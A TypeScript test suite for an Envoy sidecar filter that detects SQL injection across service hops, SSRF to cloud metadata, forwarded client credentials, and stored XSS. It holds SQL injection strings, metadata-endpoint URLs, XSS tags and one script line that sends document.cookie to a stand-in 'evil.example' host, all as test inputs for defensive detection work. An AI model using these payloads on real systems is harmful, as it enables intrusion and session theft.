/** Values from service to service on the TypeScript host: each service a process of its own, two workers, one module for both directions. */
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { describe, it } from "node:test";
import {
  createEnvoyProcess,
  type EnvoyProcess,
  type Header,
  type LogLine,
  type Plugin,
} from "../../scripts/host/index.ts";
import { modulePath } from "../../scripts/package.ts";
import type { PolicySource } from "../../scripts/policy/schema.ts";
import type { Finding } from "../../scripts/scan/verdict.ts";
import { compile } from "../filter/push.ts";
import { HEADER, readHeader, writeHeader } from "./header.ts";

const module = await readFile(modulePath("checked"));
const SECRET = "correct horse battery staple";
const OTHER = "another secret of good length";
const TRACE = "0af7651916cd43dd8448eb211c80319c";
const ATTACK = "1' OR '1'='1";
const ATTACK_IN_URL = encodeURIComponent(ATTACK);
const traceparent = (trace = TRACE): Header => ["traceparent", `00-${trace}-b7ad6b7169203331-01`];

interface Call {
  url: string;
  method?: string;
  headers?: Header[];
  body?: string;
}

/** What a service does with a request: its calls, and its answer. */
type App = (request: { path: string; headers: Header[]; body: string; call: (call: Call) => Header[] }) => {
  status?: number;
  body: string;
};

interface Service {
  process: EnvoyProcess;
  inbound: Plugin;
  logs: LogLine[];
  /** Sends a request; yields what was found. */
  request(call: Call, app?: App): { findings: Finding[]; seen: Header[] | null };
  /** Sends a call of the service's own; yields its headers as the next service's sidecar gets them. */
  call(call: Call): Header[];
  /** `meshward_hops_total` and `meshward_overflow_total` by `what`. */
  counts(): Record<string, number>;
}

interface Options {
  secret?: string;
  previous?: string;
  policy?: PolicySource;
  /** Verdicts tell what the service shows anyway, too. */
  all?: boolean;
  /** Neither listener says its direction. */
  asks?: boolean;
}

async function service(name: string, options: Options = {}): Promise<Service> {
  const logs: LogLine[] = [];
  const process = createEnvoyProcess({ seed: 1, log: (level, message) => logs.push({ level, message }) });
  const shared = {
    name: "meshward",
    rootId: "meshward",
    vmId: "meshward",
    module,
    workers: 2,
    node: { id: name, cluster: name },
    environment: {
      ...(options.secret === undefined ? {} : { MESHWARD_HOP_KEY: options.secret }),
      ...(options.previous === undefined ? {} : { MESHWARD_HOP_KEY_PREVIOUS: options.previous }),
    },
  };
  const policy = compile(options.policy ?? { observe: { sample: "100%" } });
  const plugin = async (direction: "inbound" | "outbound"): Promise<Plugin> => {
    const made = await process.addPlugin(shared);
    assert.ok(
      made.configure(
        JSON.stringify({ ...policy, ...(options.asks ? {} : { direction }), ...(options.all ? { dryRun: true } : {}) }),
      ).accepted,
    );
    return made;
  };
  const inbound = await plugin("inbound");
  const outbound = await plugin("outbound");
  let turn = 0;
  const call = ({ url, method = "GET", headers = [], body = "" }: Call): Header[] => {
    const { host, pathname, search } = new URL(url);
    // Another worker than the inbound stream's.
    const stream = outbound.openStream({
      request: { method, path: pathname + search, headers: [["host", host], ...headers] },
      worker: (turn + 1) % 2,
      properties: { xds: { listener_direction: 2n } },
    });
    stream.sendHeaders(body === "");
    if (body !== "") stream.sendBody(body, true);
    assert.equal(stream.local, null);
    const { headers: sent, body: passed } = stream.request.out;
    assert.equal(Buffer.from(passed).toString(), body);
    stream.respond({ status: 200, headers: [], body: "ok" });
    stream.end();
    return sent!.toJSON() as Header[];
  };
  return {
    process,
    inbound,
    logs,
    call,
    request({ url, method = "GET", headers = [], body = "" }, app = () => ({ body: "fine" })) {
      turn++;
      const { host, pathname, search } = new URL(url);
      const stream = inbound.openStream({
        request: { method, path: pathname + search, headers: [["host", host], ...headers] },
        worker: turn % 2,
        properties: { xds: { listener_direction: 1n } },
      });
      stream.sendHeaders(body === "");
      if (body !== "") stream.sendBody(body, true);
      let seen: Header[] | null = null;
      if (stream.local === null) {
        seen = stream.request.out.headers!.toJSON() as Header[];
        const { status = 200, body: answer } = app({
          path: pathname + search,
          headers: seen,
          body: Buffer.from(stream.request.out.body).toString(),
          call,
        });
        stream.respond({ status, headers: [["content-type", "text/plain"]], body: answer });
      }
      stream.end();
      const text = stream.filterState.get("wasm.meshward.verdict")?.toString() ?? "";
      const findings = text.startsWith("{") ? ((JSON.parse(text) as { findings?: Finding[] }).findings ?? []) : [];
      return { findings, seen };
    },
    counts() {
      process.advance(1000);
      const found: Record<string, number> = {};
      for (const [metric, value] of process.metrics()) {
        const what = /what=\.=(\w+);\.;(?:hops|overflow)_total$/.exec(metric)?.[1];
        if (what !== undefined) found[what] = value as number;
      }
      return found;
    },
  };
}

const headerIn = (headers: readonly Header[]): string | undefined =>
  headers.find(([name]) => name.toLowerCase() === HEADER)?.[1] as string | undefined;
const withoutPseudo = (headers: readonly Header[]): Header[] => headers.filter(([name]) => !name.startsWith(":"));

const DATABASE_ERROR = { status: 500, body: "You have an error in your SQL syntax near ''1'='1'" };

describe("values from service to service", () => {
  for (const traced of [true, false]) {
    it(`are one finding with all hops where the last one fails, ${traced ? "by trace" : "by value"}`, async () => {
      const edge = await service("edge", { secret: SECRET });
      const catalogue = await service("catalogue", { secret: SECRET });
      const orders = await service("orders", { secret: SECRET });
      const trace = traced ? [traceparent()] : [];
      let third: Finding[] = [];
      let headers: Header[] = [];
      edge.request({ url: `http://edge/search?q=${ATTACK_IN_URL}`, headers: trace }, ({ call }) => {
        const sent = call({ url: `http://catalogue/items/7?filter=${ATTACK_IN_URL}`, headers: trace });
        assert.equal(typeof headerIn(sent), "string");
        const toCatalogue = { url: `http://catalogue/items/7?filter=${ATTACK_IN_URL}`, headers: withoutPseudo(sent) };
        const { seen } = catalogue.request(toCatalogue, (request) => {
          assert.equal(headerIn(request.headers), undefined);
          headers = request.call({ url: `http://orders/orders?sku=${ATTACK_IN_URL}`, headers: trace });
          const toOrders = { url: `http://orders/orders?sku=${ATTACK_IN_URL}`, headers: withoutPseudo(headers) };
          third = orders.request(toOrders, () => DATABASE_ERROR).findings;
          return { body: "[]" };
        });
        assert.notEqual(seen, null);
        return { body: "[]" };
      });
      const [finding] = third.filter(({ class: kind }) => kind === "sqli");
      assert.deepEqual(finding?.hops, [
        "edge GET /search query q",
        "catalogue GET /items/{number} query filter",
        "orders GET /orders query sku",
      ]);
      assert.equal(finding.stage, "likely");
      assert.deepEqual(
        readHeader(headerIn(headers)!, SECRET, traced ? TRACE : undefined).hops[0],
        finding.hops.slice(0, 2),
      );
      assert.equal(catalogue.counts().taken, 1);
    });
  }

  it("are no finding of their own, and leave no trace of the header with the service", async () => {
    const edge = await service("edge", { secret: SECRET });
    const orders = await service("orders", { secret: SECRET });
    const quote = encodeURIComponent("O'Brien (x)");
    edge.request({ url: `http://edge/search?q=${quote}`, headers: [traceparent()] }, ({ call }) => {
      const sent = call({ url: `http://orders/names?n=${quote}`, headers: [traceparent()] });
      assert.notEqual(headerIn(sent), undefined);
      const { findings, seen } = orders.request({
        url: `http://orders/names?n=${quote}`,
        headers: withoutPseudo(sent),
      });
      assert.deepEqual(findings, []);
      assert.equal(headerIn(seen!), undefined);
      return { body: "" };
    });
    assert.equal(orders.counts().travelled, 1);
  });

  it("travel in bodies, and are known there", async () => {
    const edge = await service("edge", { secret: SECRET });
    const orders = await service("orders", { secret: SECRET });
    const json: Header = ["content-type", "application/json"];
    let found: Finding[] = [];
    const sent = { url: "http://edge/orders", method: "POST", headers: [traceparent(), json] };
    edge.request({ ...sent, body: JSON.stringify({ note: ATTACK }) }, ({ call }) => {
      const body = JSON.stringify({ lines: [{ text: ATTACK }] });
      const headers = call({ url: "http://orders/lines", method: "POST", headers: [traceparent(), json], body });
      const passed = { url: "http://orders/lines", method: "POST", headers: withoutPseudo(headers), body };
      found = orders.request(passed, () => DATABASE_ERROR).findings;
      return { body: "" };
    });
    assert.deepEqual(found[0]?.hops, ["edge POST /orders json /note", "orders POST /lines json /lines/0/text"]);
  });

  it("are told to services of the mesh alone", async () => {
    const to = async (url: string, hops?: string[]): Promise<string | undefined> => {
      const policy = { observe: { sample: "100%", ...(hops === undefined ? {} : { hops }) } };
      const edge = await service("edge", { secret: SECRET, policy });
      let header: string | undefined;
      edge.request({ url: `http://edge/search?q=${ATTACK_IN_URL}`, headers: [traceparent()] }, ({ call }) => {
        header = headerIn(call({ url, headers: [traceparent()] }));
        return { body: "" };
      });
      return header;
    };
    for (const url of [
      "http://orders/",
      "http://orders:8080/",
      "http://orders.shop.svc/",
      "http://a.b.svc.cluster.local:80/",
    ]) {
      assert.notEqual(await to(url), undefined, url);
    }
    for (const url of [
      "http://api.partner.example/",
      "http://10.1.1.1/",
      "http://[::1]/",
      "http://svc/".replace("svc", "x.svcs"),
    ]) {
      assert.equal(await to(url), undefined, url);
    }
    const own = ["*.shop.example", "10.1.1.1:8080"];
    for (const url of ["http://a.shop.example/", "http://10.1.1.1:8080/"])
      assert.notEqual(await to(url, own), undefined, url);
    for (const url of ["http://orders/", "http://shop.example/", "http://10.1.1.1/", "http://a.shop.example.org/"]) {
      assert.equal(await to(url, own), undefined, url);
    }
  });
});

/** A header as the edge writes it for `ATTACK`. */
async function headerOf(options: Options, trace?: string): Promise<string> {
  const edge = await service("edge", options);
  const headers = trace === undefined ? [] : [traceparent(trace)];
  let header: string | undefined;
  edge.request({ url: `http://edge/search?q=${ATTACK_IN_URL}`, headers }, ({ call }) => {
    header = headerIn(call({ url: `http://orders/orders?sku=${ATTACK_IN_URL}`, headers }));
    return { body: "" };
  });
  return header!;
}

describe("the header between sidecars", () => {
  const send = (orders: Service, headers: Header[]) =>
    orders.request({ url: `http://orders/orders?sku=${ATTACK_IN_URL}`, headers }, () => DATABASE_ERROR);
  const EDGE = ["edge GET /search query q", "orders GET /orders query sku"];

  it("is believed by whoever knows the secret, for its own request and for a minute", async () => {
    const header = await headerOf({ secret: SECRET }, TRACE);
    const orders = await service("orders", { secret: SECRET });
    const cases: [why: string, headers: Header[], counted: string | null, seconds?: number][] = [
      ["as it was sent", [traceparent(), [HEADER, header]], "taken"],
      ["in capitals", [traceparent(), ["X-Meshward-Taint", header]], "taken"],
      ["none", [traceparent()], null],
      ["of another trace", [traceparent("1" + TRACE.slice(1)), [HEADER, header]], "forged"],
      ["without a trace", [[HEADER, header]], "forged"],
      ["with two traces", [traceparent(), traceparent(), [HEADER, header]], "forged"],
      ["twice", [traceparent(), [HEADER, header], [HEADER, header]], "malformed"],
      ["beside another", [traceparent(), [HEADER, "x"], [HEADER, header]], "malformed"],
      ["unsigned", [traceparent(), [HEADER, header.slice(0, -43)]], "forged"],
      ["empty", [traceparent(), [HEADER, ""]], "malformed"],
      ["too long", [traceparent(), [HEADER, "A".repeat(5000)]], "malformed"],
      ["made by who does not know it", [traceparent(), [HEADER, madeBy(OTHER)]], "unknown_key"],
      ["too old", [traceparent(), [HEADER, header]], "stale", 61],
    ];
    for (const [why, headers, counted, wait = 0] of cases) {
      orders.process.advance(wait * 1000);
      const before = orders.counts();
      const { findings, seen } = send(orders, headers);
      const after = orders.counts();
      const rose = Object.keys(after).filter((what) => after[what] !== (before[what] ?? 0) && what !== "travelled");
      assert.deepEqual(rose, counted === null ? [] : [counted], why);
      assert.deepEqual(findings[0]?.hops, counted === "taken" ? EDGE : undefined, why);
      assert.deepEqual(
        seen!.filter(([name]) => name.toLowerCase() === HEADER),
        [],
        why,
      );
    }
  });

  function madeBy(secret: string): string {
    const seconds = Math.floor(Date.UTC(2026, 0, 1) / 1000);
    return writeHeader({ secret, seconds, trace: TRACE, entries: [{ hash: 1n, hops: ["forged GET / query q"] }] });
  }

  it("is taken off whatever the mode, without a secret too", async () => {
    const header = await headerOf({ secret: SECRET }, TRACE);
    for (const options of [
      { secret: SECRET, policy: { mode: "off" } },
      { secret: SECRET, policy: { mode: "block" } },
      { secret: SECRET, policy: { observe: { sample: "0%" } } },
      {},
    ] as Options[]) {
      const orders = await service("orders", options);
      const { seen } = orders.request({
        url: "http://orders/",
        headers: [traceparent(), [HEADER, header], [HEADER, "x"]],
      });
      assert.equal(headerIn(seen!), undefined, JSON.stringify(options));
    }
  });

  it("goes on while the secret changes: both are known, the first signs", async () => {
    const old = await headerOf({ secret: SECRET }, TRACE);
    const orders = await service("orders", { secret: OTHER, previous: SECRET });
    assert.deepEqual(send(orders, [traceparent(), [HEADER, old]]).findings[0]?.hops, EDGE);
    const fresh = await headerOf({ secret: OTHER, previous: SECRET }, TRACE);
    assert.deepEqual(send(orders, [traceparent(), [HEADER, fresh]]).findings[0]?.hops, EDGE);
    // The next one gets it under the new secret, whichever it came by.
    const catalogue = await service("catalogue", { secret: OTHER, previous: SECRET });
    let next: string | undefined;
    catalogue.request(
      { url: `http://catalogue/items?filter=${ATTACK_IN_URL}`, headers: [traceparent(), [HEADER, old]] },
      ({ call }) => {
        next = headerIn(call({ url: "http://orders/", headers: [traceparent()] }));
        return { body: "" };
      },
    );
    assert.deepEqual(readHeader(next!, OTHER, TRACE).hops, [[EDGE[0], "catalogue GET /items query filter"]]);
  });

  it("is not written without a secret, which is said once", async () => {
    const told = async (options: Options) => {
      const edge = await service("edge", options);
      let header: string | undefined;
      edge.request({ url: `http://edge/search?q=${ATTACK_IN_URL}`, headers: [traceparent()] }, ({ call }) => {
        header = headerIn(call({ url: "http://orders/", headers: [traceparent()] }));
        return { body: "" };
      });
      assert.equal(header, undefined);
      return edge.logs
        .filter(({ message }) => message.includes("MESHWARD_HOP_KEY"))
        .map(({ level, message }) => `${level} ${message}`);
    };
    const line = "meshward: no MESHWARD_HOP_KEY: values are not followed from service to service";
    assert.deepEqual(await told({}), [`info ${line}`]);
    assert.deepEqual(await told({ policy: { observe: { hops: ["orders"] } } }), [`warn ${line}`]);
    const short = "meshward: MESHWARD_HOP_KEY is shorter than 16 characters, and not used";
    assert.deepEqual(await told({ secret: "short" }), [`error ${short}`, `info ${line}`]);
  });

  it("that the service wrote itself goes no further", async () => {
    const edge = await service("edge", { secret: SECRET });
    edge.request({ url: `http://edge/search?q=${ATTACK_IN_URL}`, headers: [traceparent()] }, ({ call }) => {
      const own: Header[] = [traceparent(), [HEADER, "mine"], [HEADER, "mine too"]];
      const sent = call({ url: "http://orders/", headers: own }).filter(([name]) => name === HEADER);
      assert.equal(sent.length, 1);
      assert.doesNotThrow(() => readHeader(sent[0]![1] as string, SECRET, TRACE));
      assert.equal(headerIn(call({ url: "http://other.example/", headers: own })), undefined);
      return { body: "" };
    });
  });
});

describe("a call that goes where a value points", () => {
  const METADATA = "http://169.254.169.254/latest/meta-data/";
  const fetched = async (
    value: string,
    url: string,
    options: { traced?: boolean; asks?: boolean; wait?: number } = {},
  ) => {
    const { traced = true, asks = false, wait = 0 } = options;
    const edge = await service("edge", { asks });
    // The first call of all says that there are some.
    if (asks) edge.call({ url: "http://warm.example/" });
    edge.process.advance(1000);
    const headers = traced ? [traceparent()] : [];
    const { findings } = edge.request(
      { url: `http://shop.example/preview?from=${encodeURIComponent(value)}`, headers },
      ({ call }) => {
        edge.process.advance(wait);
        call({ url, headers });
        return { body: "" };
      },
    );
    return findings
      .filter(({ class: kind }) => kind === "ssrf")
      .map(({ rule, stage, where }) => `${rule} ${stage} ${where.name}`);
  };

  it("is confirmed by its trace where a detector has seen the value", async () => {
    assert.deepEqual(await fetched(METADATA, METADATA), ["ssrf-metadata confirmed from"]);
    assert.deepEqual(await fetched("http://2852039166/x", "http://169.254.169.254/y"), [
      "ssrf-metadata confirmed from",
    ]);
  });

  it("is likely by the value alone, and no more than told where any host may be meant", async () => {
    assert.deepEqual(await fetched(METADATA, METADATA, { traced: false }), ["ssrf-metadata likely from"]);
    assert.deepEqual(await fetched("http://images.example/a.png", "http://images.example/a.png"), [
      "ssrf-outbound attempted from",
    ]);
    assert.deepEqual(await fetched("//images.example:8080/a", "http://images.example:8080/b"), [
      "ssrf-outbound attempted from",
    ]);
  });

  it("is nothing where it goes elsewhere", async () => {
    assert.deepEqual(await fetched(METADATA, "http://images.example/"), ["ssrf-metadata attempted from"]);
    assert.deepEqual(await fetched("http://images.example/a.png", "http://images.example:8080/a.png"), []);
    assert.deepEqual(await fetched("http://images.example/a.png", "http://example/a.png"), []);
    assert.deepEqual(await fetched("http://shop.example/back", "http://shop.example/"), [], "its own host");
    assert.deepEqual(await fetched("images.example", "http://images.example/"), [], "a name is no URL");
  });

  it("is forgotten by the value after ten seconds, by the trace after a minute", async () => {
    assert.deepEqual(await fetched(METADATA, METADATA, { traced: false, wait: 12_000 }), [
      "ssrf-metadata attempted from",
    ]);
    assert.deepEqual(await fetched(METADATA, METADATA, { wait: 12_000 }), ["ssrf-metadata confirmed from"]);
    assert.deepEqual(await fetched(METADATA, METADATA, { wait: 62_000 }), ["ssrf-metadata attempted from"]);
  });

  it("is no other request's that brought the same value", async () => {
    for (const traced of [true, false]) {
      const edge = await service("edge");
      const ask = (path: string, trace: string, app?: App): (string | undefined)[] => {
        const url = `http://shop.example${path}?from=${encodeURIComponent(METADATA)}`;
        return edge
          .request({ url, headers: traced ? [traceparent(trace)] : [] }, app)
          .findings.map(({ stage }) => stage);
      };
      const fetches: App = ({ call }) => {
        call({ url: METADATA, headers: traced ? [traceparent()] : [] });
        return { body: "" };
      };
      const other = "1" + TRACE.slice(1);
      assert.deepEqual(ask("/check", other), ["attempted"]);
      assert.deepEqual(ask("/fetch", TRACE, fetches), [traced ? "confirmed" : "likely"]);
      assert.deepEqual(ask("/check", other), ["attempted"]);
    }
  });

  it("is told from a request by Envoy where the filter serves both", async () => {
    assert.deepEqual(await fetched(METADATA, METADATA, { asks: true }), ["ssrf-metadata confirmed from"]);
  });
});

describe("what is kept of values", () => {
  it("stays within its bounds, whoever sends how many", async () => {
    const edge = await service("edge", { secret: SECRET });
    const memory = (): number => edge.process.vms().reduce((sum, vm) => sum + vm.memory.size, 0);
    const before = memory();
    for (let i = 0; i < 5_000; i++) {
      const trace = i.toString(16).padStart(32, "a");
      const values = Array.from(
        { length: 12 },
        (_, j) => `p${j}=${encodeURIComponent(`http://h${i}-${j}.example/'${"<".repeat(i % 300)}`)}`,
      );
      edge.request({ url: `http://edge/?${values.join("&")}`, headers: [traceparent(trace)] });
      if (i % 10 === 0)
        edge.call({ url: `http://h${i}-1.example/?${values.join("&")}`, headers: [traceparent(trace)] });
    }
    const keys = edge.process.sharedData.keys("meshward");
    assert.ok(keys.length <= 256 + 8, `${keys.length} keys`);
    for (const key of keys) assert.ok(edge.process.sharedData.get("meshward", key)!.value.length <= 2048, key);
    assert.equal(memory(), before);
    assert.equal(edge.process.traps, 0);
    assert.ok(edge.counts().notes! > 0);
  });

  it("costs a clean request and a clean call no look into shared data but one", async () => {
    const edge = await service("edge", { secret: SECRET });
    let looks = 0;
    const { sharedData } = edge.process;
    const get = sharedData.get.bind(sharedData);
    sharedData.get = (...at) => (looks++, get(...at));
    edge.request({ url: "http://edge/search?q=garden+chair&page=2", headers: [traceparent()] });
    assert.equal(looks, 0);
    edge.call({ url: "http://orders/search?q=garden+chair", headers: [traceparent()] });
    assert.equal(looks, 1);
  });
});

describe("credentials of clients in calls to others", () => {
  const PARTNER = "http://collect.partner.example/v1/visit";
  const claims = (of: object): string =>
    `eyJhbGciOiJSUzI1NiJ9.${Buffer.from(JSON.stringify(of)).toString("base64url")}.c2lnbmF0dXJl`;
  const JWT = claims({ sub: "41", iss: "https://id.shop.example/" });
  const bearer = (token: string): Header => ["authorization", `Bearer ${token}`];

  /** What is told of a request with some headers, during which the service makes a call with others. */
  async function told(sends: Header[], carries: Header[], url = PARTNER, host = "www.shop.example"): Promise<string[]> {
    const shop = await service("shop", { all: true });
    const { findings } = shop.request({ url: `http://${host}/basket`, headers: sends }, ({ call }) => {
      call({ url, headers: carries });
      return { body: "fine" };
    });
    return findings
      .filter(({ rule }) => rule === "auth-forwarded")
      .map(({ stage, where }) => `${stage} ${where.part} ${where.name}`);
  }

  it("are told of, however they are sent", async () => {
    assert.deepEqual(await told([bearer(JWT), traceparent()], [bearer(JWT), traceparent()]), [
      "confirmed header authorization",
    ]);
    assert.deepEqual(await told([bearer(JWT)], [bearer(JWT)]), ["likely header authorization"]);
    assert.deepEqual(await told([bearer("5f0c9a7be1d2"), traceparent()], [bearer("5f0c9a7be1d2"), traceparent()]), [
      "likely header authorization",
    ]);
    const cookie: Header = ["cookie", "theme=dark; sid=5f0c9a7be1d2"];
    assert.deepEqual(await told([cookie, traceparent()], [["cookie", "sid=5f0c9a7be1d2"], traceparent()]), [
      "confirmed cookie sid",
    ]);
    assert.deepEqual(await told([["x-api-key", "5f0c9a7be1d2"]], [bearer("5f0c9a7be1d2")]), [
      "likely header x-api-key",
    ]);
  });

  it("are none where it is another one, or goes to who may have it", async () => {
    for (const [why, carries, url, host] of [
      ["a credential of the service's own", bearer("0b77de1f9c0a")],
      ["no session", ["cookie", "theme=dark"]],
      ["a service of the mesh", bearer(JWT), "http://orders/basket"],
      ["the same by its full name", bearer(JWT), "http://orders.shop.svc.cluster.local/basket"],
      ["an address", bearer(JWT), "http://192.0.2.7/basket"],
      ["the own domain", bearer(JWT), "http://api.shop.example/basket"],
      ["the own domain, of three names", bearer(JWT), "http://api.shop.co.uk/basket", "www.shop.co.uk"],
      ["who made it", bearer(JWT), "http://accounts.provider.example/me"],
      ["who tells whose it is", bearer(JWT), "http://provider.example/oauth2/introspect"],
      ["who it is for", bearer(claims({ sub: "41", iss: "x", aud: ["https://partner.example"] }))],
    ] as [string, Header, string?, string?][]) {
      const sends = why === "who it is for" ? carries : bearer(JWT);
      assert.deepEqual(await told([sends, traceparent()], [carries, traceparent()], url, host), [], why);
    }
  });

  it("are told of the request of the same trace", async () => {
    const shop = await service("shop", { all: true });
    const later = "1af7651916cd43dd8448eb211c80319d";
    const { findings } = shop.request(
      { url: "http://www.shop.example/basket", headers: [bearer(JWT), traceparent()] },
      ({ call }) => {
        const other = shop.request(
          { url: "http://www.shop.example/other", headers: [bearer(JWT), traceparent(later)] },
          () => {
            call({ url: PARTNER, headers: [bearer(JWT), traceparent()] });
            return { body: "fine" };
          },
        );
        assert.ok(!other.findings.some(({ rule }) => rule === "auth-forwarded"));
        return { body: "fine" };
      },
    );
    assert.deepEqual(
      findings.filter(({ rule }) => rule === "auth-forwarded").map(({ stage }) => stage),
      ["confirmed"],
    );
  });
});

describe("tags that were stored", () => {
  const HTML: Header = ["content-type", "text/html"];
  const TAG = "<img src=x onerror=alert(4711)>";
  const review = (shop: Service, text: string, path = "/reviews"): void => {
    const headers: Header[] = [["content-type", "application/json"]];
    shop.request({ url: `http://www.shop.example${path}`, method: "POST", headers, body: JSON.stringify({ text }) });
  };
  const page = (shop: Service, body: string, path = "/items/7", type = HTML): string[] => {
    const stream = shop.inbound.openStream({
      request: { method: "GET", path, headers: [["host", "www.shop.example"]] },
      properties: { xds: { listener_direction: 1n } },
    });
    stream.sendHeaders(true);
    stream.respond({ status: 200, headers: [type], body });
    stream.end();
    const text = stream.filterState.get("wasm.meshward.verdict")!.toString();
    const { findings = [] } = (text.startsWith("{") ? JSON.parse(text) : {}) as { findings?: Finding[] };
    return findings
      .filter(({ rule }) => rule === "xss-stored")
      .map(({ stage, where, hops }) => `${stage} ${where.part} ${where.name} from ${(hops ?? []).join(" to ")}`);
  };

  it("are told of where they stand in a page later, with where they came in", async () => {
    const shop = await service("shop", { all: true });
    assert.deepEqual(page(shop, `<p>nothing`), []);
    review(shop, `nice ${TAG}`);
    assert.deepEqual(page(shop, `<ul><li>Eve: nice ${TAG}</ul>`), [
      "likely response-body img from shop POST /reviews json /text to shop GET /items/{number} response-body img",
    ]);
    const script = "<script>fetch('//evil.example/'+document.cookie)</script>";
    review(shop, script);
    assert.equal(page(shop, `<title>x</title>${script}`).length, 1);
    shop.process.advance(700_000);
    assert.deepEqual(page(shop, TAG), [], "too long ago");
  });

  it("are none where they run nothing, or are not what came in", async () => {
    for (const [why, body, text = TAG] of [
      ["encoded", TAG.replace("<", "&lt;")],
      ["in a comment", `<!-- ${TAG} -->`],
      ["in a text field", `<textarea>${TAG}</textarea>`],
      ["in a string of a script", `<script>var a = "${TAG}";</script>`],
      ["another one", TAG.replace("4711", "4712")],
      ["without what runs", "<img src=x>"],
      ["it calls nothing", "<b onclick=toggle()>x</b>", "<b onclick=toggle()>x</b>"],
    ] as [string, string, string?][]) {
      const shop = await service("shop", { all: true });
      review(shop, text);
      assert.deepEqual(page(shop, `<ul>${body}</ul>`), [], why);
    }
    const shop = await service("shop", { all: true });
    review(shop, TAG, "/admin/pages");
    assert.deepEqual(page(shop, TAG), [], "who writes pages");
    review(shop, TAG);
    assert.deepEqual(page(shop, TAG, "/items", ["content-type", "application/json"]), [], "no page");
  });

  it("are none of the page's own that somebody sends back, nor what the same request brought", async () => {
    const shop = await service("shop", { all: true });
    const own = `<button onclick="return confirm('Sure?')">`;
    for (const path of ["/items/7", "/items/7"]) assert.deepEqual(page(shop, own, path), []);
    review(shop, own);
    assert.deepEqual(page(shop, own), []);
    const path = `/search?q=${encodeURIComponent(TAG)}`;
    for (let visit = 0; visit < 3; visit++) assert.deepEqual(page(shop, `<p>${TAG}`, path), []);
    // A flood of tags takes room from older ones, and from nobody else.
    for (let each = 0; each < 3_000; each++) review(shop, `<img src=${each} onerror=alert(1)>`);
    assert.equal(page(shop, "<img src=2999 onerror=alert(1)>").length, 1);
  });
});
